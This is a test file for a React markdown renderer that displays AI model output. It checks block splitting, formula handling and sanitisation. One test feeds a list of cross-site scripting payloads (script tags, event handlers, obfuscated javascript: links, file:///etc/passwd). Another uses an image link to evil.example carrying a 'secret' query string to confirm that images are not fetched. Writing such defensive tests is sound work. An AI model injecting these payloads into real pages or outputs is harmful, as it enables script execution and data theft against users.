import { render, waitFor } from "@testing-library/react";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { switchLanguage } from "@/lib/i18n";
import { splitBlocks } from "./blocks";
import { hasFormula, normaliseFormulas } from "./formula";
import { safeLink } from "./links";
import { Markdown } from "./Markdown";
import Renderer from "./render";

beforeAll(() => switchLanguage("en"));

const sample = `# Title

A paragraph
with two lines.

- one

- two

  inside two

1. first
2. second

\`\`\`js
const blank = 1;

const line = 2;
\`\`\`

> quoted

> again

| a | b |
| - | - |
| 1 | 2 |

$$
x = 1

y = 2
$$

    indented code

~~~
unclosed

fence`;

describe("blocks", () => {
  it("render alone as they do together", () => {
    const blocks = splitBlocks(sample);
    expect(blocks.length).toBeGreaterThan(7);
    const together = renderToStaticMarkup(<Renderer text={sample} streaming={false} />);
    const alone = blocks
      .map((block) => renderToStaticMarkup(<Renderer text={block} streaming={false} />))
      .join("");
    expect(alone).toBe(together);
  });

  it("stay the same while text grows behind them", () => {
    for (let length = 1; length <= sample.length; length += 3) {
      const settled = splitBlocks(sample.slice(0, length)).slice(0, -1);
      const later = splitBlocks(sample);
      // The block before the growing one may still take up a list item or an indented line.
      expect(later.slice(0, Math.max(settled.length - 1, 0))).toEqual(settled.slice(0, -1));
    }
  });

  it("keep text with reference definitions whole", () => {
    const text = "See [it][1].\n\n[1]: https://example.com";
    expect(splitBlocks(text)).toEqual([text]);
  });

  it("lose nothing", () => {
    const squeeze = (text: string) => text.replace(/\s+/g, "");
    expect(squeeze(splitBlocks(sample).join("\n\n"))).toBe(squeeze(sample));
  });
});

describe("formulas", () => {
  it("are found in all the ways in which models write them", () => {
    expect(normaliseFormulas("so \\(a+b\\) and $c$ then")).toBe("so $$a+b$$ and $$c$$ then");
    expect(normaliseFormulas("\\[ x^2 \\]")).toBe("\n$$\nx^2\n$$\n");
  });

  it("are not made of prices, code or escapes", () => {
    for (const text of ["from $5 to $10", "`$a$` and ``\\(b\\)``", "\\$a\\$", "a $ b $ c", "US$5 and A$6"]) {
      expect(normaliseFormulas(text)).toBe(text);
      expect(hasFormula(text)).toBe(false);
    }
  });

  it("wait until they are whole", () => {
    expect(hasFormula("$$\nx = ")).toBe(false);
    expect(hasFormula("$$\nx = 1\n$$")).toBe(true);
  });
});

describe("case_067_model_output_is_data", () => {
  const corpus = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>*{display:none}</style>",
    "text <b onclick=alert(1)>bold</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
    "- <details open ontoggle=alert(1)>",
    '> <math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  ];

  it.each(corpus)("%s", async (text) => {
    const { container, unmount } = render(<Markdown text={text} />);
    // What shows while the renderer loads has this class; then comes the rendered text.
    await waitFor(() => expect(container.querySelector(".whitespace-pre-wrap")).toBeNull());
    const markup = renderToStaticMarkup(<Renderer text={text} streaming />);
    for (const html of [container.innerHTML, markup]) {
      const page = new DOMParser().parseFromString(html, "text/html");
      expect(
        page.querySelector("script,iframe,style,object,embed,form,img,link,meta,base,math,details"),
      ).toBeNull();
      for (const element of page.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|srcdoc|^style$/);
          if (name === "href") expect(safeLink(value)).toBe(value);
        }
      }
    }
    unmount();
  });
});

it("case_069_images_are_named_not_fetched", () => {
  const html = renderToStaticMarkup(
    <Renderer
      text={"![a cat](https://evil.example/x.png?q=secret)\n\n![][r]\n\n[r]: //evil.example/y.png"}
      streaming={false}
    />,
  );
  expect(html).not.toMatch(/<img|srcset|src=/);
  expect(html).toContain("a cat");
  expect(html).not.toContain("//evil.example/y.png");
});

it("opens other sites without telling them about us", () => {
  const html = renderToStaticMarkup(
    <Renderer text="[x](https://example.com) and [here](/connect)" streaming={false} />,
  );
  expect(html).toMatch(/href="https:\/\/example\.com"[^>]*rel="noopener noreferrer nofollow"/);
  expect(html).toMatch(/<a href="\/connect">/);
});
